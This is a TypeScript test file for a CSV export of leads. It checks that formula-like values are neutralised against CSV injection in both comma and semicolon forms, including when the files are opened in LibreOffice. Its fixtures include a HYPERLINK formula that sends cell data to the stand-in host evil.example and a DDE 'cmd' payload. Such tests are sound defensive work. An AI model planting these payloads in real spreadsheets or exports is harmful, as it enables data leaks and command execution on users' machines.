import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { adminApi } from '../../contract/api/admin.ts'
import { anAdministrator, callAdmin, cookiesOf, signIn } from '../support/administrator.ts'
import { anApp, type TestApp } from '../support/app.ts'
import { engines } from '../support/engines.ts'
import { addLeads } from '../support/leads.ts'
import { type OfficeCell, openInOffice } from '../support/open-in-office.ts'
import { readCsv, withoutMark } from '../support/read-csv.ts'
import { isFullLength, times } from '../support/scale.ts'

/** Beginnings that make a spreadsheet take a value for a formula (OWASP, CSV Injection), in both widths. */
const signs = ['=', '+', '-', '@', '\t=', '\r=', '\t', '\r', '＝', '＋', '－', '＠']
const formulas = ['1+1', 'SUM(A1:A9)', 'HYPERLINK("https://evil.example/?"&A1,"x")', "cmd|' /C calc'!A0", 'A1']

/** What a spreadsheet must leave alone. */
const harmless = [
  'Müller & Söhne, „Bäckerei“; ß',
  'ça, œuvre : « déjà », 12 €',
  'Łódź, Αθήνα, 東京, 🥨',
  'quotes "one", ""two""',
  ' =1+1 after a space',
  'a\n=1+1 after a line',
  '","=1+1',
  '";"=1+1',
  '"=1+1"',
  "'=1+1",
  'sum = 1 + 1',
]

const dangerous = signs.flatMap((sign) => formulas.map((formula) => sign + formula))
const agents = [...dangerous, ...harmless]

const header = [
  ...['Email', 'Date de téléchargement', 'Adresse IP', 'Navigateur'],
  ...['Adresse confirmée', 'Langue', 'Campagne'],
]
/** The last three cells of somebody who just signed up. */
const rest = ['non', 'français', 'N/A']

/** As the file writes it: text that would be a formula follows an apostrophe, all else is as it was. */
const neutral = (text: string) => (signs.some((sign) => text.startsWith(sign[0] ?? sign)) ? `'${text}` : text)

type Row = { email: string; minute: number; agent: string }
const rows: Row[] = [
  ...agents.map((agent, index) => ({ email: `${agent.slice(0, 6)}${index}@example.org`, minute: index, agent })),
  ...Array.from({ length: times(100, 5_000) }, (_, index) => ({
    email: `kunde${index}@bäckerei.example`,
    minute: agents.length + index,
    agent: `Mozilla/5.0 (${index}; "ü")`,
  })),
]
const newestFirst = rows.toReversed()

/** The thirteenth of March 2026, five o'clock in Paris, and so many minutes. */
const toInstant = ({ minute }: Row) => new Date(Date.parse('2026-03-13T04:00:00.000Z') + minute * 60_000)
const toParis = (row: Row) => new Date(toInstant(row).getTime() + 3_600_000).toISOString().slice(0, 19)
function toFrench(row: Row): string {
  const [date = '', time = ''] = toParis(row).split('T')
  return `${date.split('-').reverse().join('/')} ${time}`
}

describe.each(engines)('the list as a file, on %s', (engine) => {
  let app: TestApp
  const files = new Map<string, Buffer>()

  beforeAll(async () => {
    app = await anApp({ engine })
    await anAdministrator(app)
    for (let first = 0; first < rows.length; first += 1_000) {
      await addLeads(
        app.database,
        rows.slice(first, first + 1_000).map((row) => ({
          email: row.email,
          downloaded_at: toInstant(row).toISOString(),
          user_agent: row.agent,
        })),
      )
    }
    const cookie = cookiesOf(await signIn(app))
    for (const separator of ['comma', 'semicolon']) {
      const answer = await callAdmin(app, `${adminApi.csv}?separator=${separator}`, cookie)
      files.set(separator, Buffer.from(await answer.arrayBuffer()))
    }
  })
  afterAll(() => app.remove())

  test.each([
    ['comma', ','],
    ['semicolon', ';'],
  ] as const)('is strict in its form, and holds each value as it was (%s)', (name, separator) => {
    const read = readCsv(withoutMark(files.get(name) ?? Buffer.of()), separator)
    expect(read[0]).toEqual(header)
    expect(read.slice(1)).toEqual(
      newestFirst.map((row) => [neutral(row.email), toFrench(row), 'N/A', neutral(row.agent), ...rest]),
    )
    const beginnings = read.flat().map((value) => value[0])
    expect(beginnings.filter((letter) => signs.includes(letter ?? ''))).toEqual([])
  })

  // At full length the real thing opens it: both forms, in French, the second one in German too.
  if (isFullLength) {
    test.each([
      ['comma', ',', 'french'],
      ['semicolon', ';', 'french'],
      ['semicolon', ';', 'german'],
    ] as const)(
      'opens in LibreOffice without a formula and with the right values (%s %s, %s)',
      (name, separator, language) => {
        const cells = openInOffice(files.get(name) ?? Buffer.of(), separator, language)
        expect(cells.flat().filter(({ formula }) => formula !== undefined)).toEqual([])
        expect(cells[0]?.map(({ value }) => value)).toEqual(header)
        // A line break is one, whichever it was; only French knows the French date for one.
        const toBreaks = (text: string) => text.replaceAll('\r', '\n')
        const found = cells.slice(1).map((row) => row.map(({ value }) => value))
        expect(found).toEqual(
          newestFirst.map((row) => [
            toBreaks(neutral(row.email)),
            language === 'french' ? toParis(row).replace('T00:00:00', '') : toFrench(row),
            'N/A',
            toBreaks(neutral(row.agent)),
            ...rest,
          ]),
        )
        const kinds = (column: number) => new Set(cells.slice(1).map((row: OfficeCell[]) => row[column]?.kind))
        expect([0, 2, 3].map(kinds)).toEqual([new Set(['string']), new Set(['string']), new Set(['string'])])
      },
    )
  }
})

if (isFullLength) {
  test('the same values without an apostrophe are formulas to LibreOffice: the test can fail', () => {
    const raw = `\ufeff${formulas.map((formula) => `"=${formula.replaceAll('"', '""')}"\r\n`).join('')}`
    const cells = openInOffice(Buffer.from(raw), ',', 'french')
    expect(cells.flat().filter(({ formula }) => formula !== undefined)).toHaveLength(formulas.length)
  })
}
